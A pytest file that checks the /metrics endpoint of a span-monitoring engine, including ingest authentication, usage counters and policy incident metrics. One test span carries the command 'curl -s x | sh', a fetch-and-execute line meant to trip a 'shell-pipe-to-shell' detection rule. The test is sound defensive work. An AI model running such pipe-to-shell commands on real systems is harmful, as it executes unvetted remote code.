"""`/metrics` of a running engine, scraped after real traffic from the OpenTelemetry SDK."""

from __future__ import annotations

import time

import httpx
import pytest
from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import (
    OTLPSpanExporter as GrpcSpanExporter,
)
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from prometheus_client.parser import text_string_to_metric_families

from engine.metrics.usage_families import TIME_EVERY
from tests.engine.test_live_engine import INGEST_AUTH, INGEST_TOKEN, READ_AUTH, TOKEN, Engine
from tests.patience import PATIENCE


def scrape(engine: Engine, headers: dict[str, str] | None = None) -> dict[str, dict]:
    """{sample name: {frozenset(labels): value}}."""
    r = httpx.get(f"{engine.base}/metrics", headers=headers or READ_AUTH, timeout=10)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/plain; version=0.0.4")
    out: dict[str, dict] = {}
    for family in text_string_to_metric_families(r.text):
        for sample in family.samples:
            out.setdefault(sample.name, {})[frozenset(sample.labels.items())] = sample.value
    return out


def value(samples: dict, name: str, **labels: str) -> float:
    """The sum of `name` over the samples carrying `labels` (0 when none)."""
    wanted = set(labels.items())
    return sum(v for k, v in samples.get(name, {}).items() if wanted <= k)


def send_calls(provider: TracerProvider, calls: list[dict]) -> None:
    tracer = provider.get_tracer("wrapper")
    for attrs in calls:
        with tracer.start_as_current_span(attrs.pop("name", "claude.invoke")) as span:
            for key, v in attrs.items():
                span.set_attribute(key, v)


@pytest.fixture
def engine(tmp_path):
    # quiet senders hold windows back for 2 s, not a minute: the shards see epochs at once
    e = Engine(tmp_path, stream="{allowed_lateness: 1, tick: 1, heartbeat: 5, idle_timeout: 2}")
    e.start()
    yield e
    if e.proc and e.proc.poll() is None:
        e.proc.kill()


def test_metrics_count_what_the_sdk_sent_and_what_was_refused(engine):
    resource = Resource.create({"team": "payments", "service.instance.id": "agent-7"})
    http = TracerProvider(resource=resource)
    http.add_span_processor(
        SimpleSpanProcessor(
            OTLPSpanExporter(
                endpoint=f"http://127.0.0.1:{engine.otlp}/v1/traces", headers=INGEST_AUTH
            )
        )
    )
    calls = [
        {
            "user": f"u{i % 3}",
            "repo": "billing" if i % 2 else "ledger",
            "workflow": "review",
            "model": "anthropic.claude-sonnet-4-5",
            "region": "eu-west-1",
            "tokens_in": 1000 + i,
            "tokens_out": 10,
            "cost_estimate": 0.25,
            "latency_ms": 1500.0 + 100 * i,
            "cache_hit": i % 4 == 0,
        }
        for i in range(8)
    ]
    send_calls(http, [dict(c) for c in calls])
    send_calls(
        http,
        [{"name": "shell.run", "user": "u1", "repo": "billing", "command": "curl -s x | sh"}],
    )
    http.shutdown()

    grpc_provider = TracerProvider(resource=Resource.create({"team": "search"}))
    grpc_provider.add_span_processor(
        SimpleSpanProcessor(
            GrpcSpanExporter(
                endpoint=f"127.0.0.1:{engine.grpc}",
                insecure=True,
                headers={"authorization": f"Bearer {INGEST_TOKEN}"},
            )
        )
    )
    send_calls(grpc_provider, [{"user": "v", "tokens_in": 7} for _ in range(3)])
    grpc_provider.shutdown()

    url = f"http://127.0.0.1:{engine.otlp}/v1/traces"
    assert (
        httpx.post(url, content=b"{}", headers={"Content-Type": "application/json"}).status_code
        == 401
    )
    malformed = httpx.post(
        url,
        content=b"\x0a\xff\xff",
        headers={"Content-Type": "application/x-protobuf", **INGEST_AUTH},
    )
    assert malformed.status_code == 400

    engine.wait_for(lambda i: i["rule_id"] == "shell-pipe-to-shell", "the policy incident")

    assert httpx.get(f"{engine.base}/metrics", timeout=5).status_code == 401
    wrong = {"Authorization": "Bearer nope"}
    assert httpx.get(f"{engine.base}/metrics", headers=wrong, timeout=5).status_code == 401
    assert (
        httpx.get(
            f"{engine.base}/metrics", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=5
        ).status_code
        == 200
    )

    deadline = time.monotonic() + PATIENCE
    while True:
        m = scrape(engine)
        opened = value(m, "spanwatch_incident_transitions_total", type="opened")
        epochs = value(m, "spanwatch_shard_update_seconds_count", stage="detect")
        if (opened >= 1 and epochs > 0) or time.monotonic() > deadline:
            break
        time.sleep(0.3)

    # requests, per receiver and answer
    assert value(m, "spanwatch_otlp_requests_total", receiver="otlp_http", code="200") == 9
    assert value(m, "spanwatch_otlp_requests_total", receiver="otlp_http", code="401") == 1
    assert value(m, "spanwatch_otlp_requests_total", receiver="otlp_http", code="400") == 1
    assert value(m, "spanwatch_otlp_requests_total", receiver="otlp_grpc", code="OK") == 3
    assert value(m, "spanwatch_ingest_requests_refused_total", reason="unauthenticated") == 1
    # events, per receiver and outcome
    assert value(m, "spanwatch_events_in_total", receiver="otlp_http", outcome="ok") == 9
    assert value(m, "spanwatch_events_in_total", receiver="otlp_grpc", outcome="ok") == 3
    # usage rollups, by label
    assert value(m, "spanwatch_calls_total", team="payments") == 8
    assert value(m, "spanwatch_calls_total", team="payments", repo="billing") == 4
    assert value(m, "spanwatch_calls_total", team="search") == 3
    assert value(m, "spanwatch_tokens_in_total", team="payments") == sum(
        c["tokens_in"] for c in calls
    )
    assert value(m, "spanwatch_cost_usd_total", team="payments") == pytest.approx(2.0)
    assert value(m, "spanwatch_cache_hits_total", team="payments") == 2
    assert value(m, "spanwatch_cache_lookups_total", team="payments") == 8
    assert value(m, "spanwatch_call_latency_seconds_count", team="payments") == 8
    assert value(m, "spanwatch_call_latency_seconds_bucket", team="payments", le="2.0") == 6
    assert value(m, "spanwatch_active_users", window="1d", team="all") == 4
    assert value(m, "spanwatch_active_users", window="7d", team="payments") == 3
    assert value(m, "spanwatch_active_users_by_repo", window="1d", repo="billing") == 3
    assert value(m, "spanwatch_top_user_calls", user="u0") == 3
    assert (
        value(m, "spanwatch_policy_hits_total", rule_id="shell-pipe-to-shell", repo="billing") == 1
    )
    # the engine itself
    # 12 events matched, one in TIME_EVERY timed: the first and the ninth
    assert value(m, "spanwatch_rule_evaluation_seconds_count") == len(range(0, 12, TIME_EVERY))
    assert value(m, "spanwatch_shard_update_seconds_count", stage="detect") > 0
    assert value(m, "spanwatch_queue_capacity", queue="inbox_events") == 200_000
    assert ("spanwatch_queue_depth") in m
    assert value(m, "spanwatch_watermark_lag_seconds", what="watermark") >= 0
    assert "spanwatch_events_late_total" in m
    assert value(m, "spanwatch_incidents", rule_id="shell-pipe-to-shell", status="firing") == 1
    assert value(m, "spanwatch_incident_transitions_total", rule_id="shell-pipe-to-shell") >= 1
    assert engine.stop() == 0


def test_metrics_auth_none_opens_the_endpoint_and_no_token_closes_it(tmp_path):
    e = Engine(tmp_path, extra="metrics: {auth: none, top_users: 0}\n")
    e.start()
    try:
        r = httpx.get(f"{e.base}/metrics", timeout=5)
        assert r.status_code == 200 and "spanwatch_otlp_requests" in r.text
        assert "spanwatch_top_user_calls" in r.text  # the family, with nobody named
        assert 'user="' not in r.text
        assert e.stop() == 0
    finally:
        if e.proc and e.proc.poll() is None:
            e.proc.kill()
    closed = Engine(tmp_path, env={"SPANWATCH_API_READ_TOKEN": "", "SPANWATCH_API_TOKEN": ""})
    closed.start()
    try:
        r = httpx.get(f"{closed.base}/metrics", headers=READ_AUTH, timeout=5)
        assert r.status_code == 503 and "SPANWATCH_API_READ_TOKEN" in r.json()["error"]
        assert closed.stop() == 0
    finally:
        if closed.proc and closed.proc.poll() is None:
            closed.proc.kill()
